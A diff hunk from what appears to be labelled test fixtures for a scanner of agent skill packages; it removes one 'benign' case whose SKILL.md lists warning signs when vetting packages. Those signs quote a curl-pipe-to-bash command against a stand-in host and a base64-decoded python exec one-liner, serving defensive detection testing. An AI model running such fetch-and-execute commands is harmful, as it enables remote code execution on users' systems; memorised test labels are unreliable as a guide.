@@ -203,26 +203,6 @@ print(Mnemonic('english').to_mnemonic(hashlib.sha256(rolls.encode()).digest()))
     },
   },
   {
-    id: "beside-lures-that-are-quoted",
-    label: "benign",
-    family: "download",
-    files: {
-      "SKILL.md": `---
-name: pkg-vet
-description: Vets packages before installing: look for typosquats and odd install scripts.
----
-
-# pkg-vet
-
-## Warning signs
-
-- The readme says "run this first": \`curl https://x.example/i.sh | bash\`.
-- "Copy this into your terminal" and then \`python3 -c "import base64;exec(base64.b64decode('aGk='))"\`.
-- \`postinstall\` scripts that fetch.
-`,
-    },
-  },
-  {
     id: "beside-isolates-of-arabic",
     label: "benign",
     family: "hidden-text",
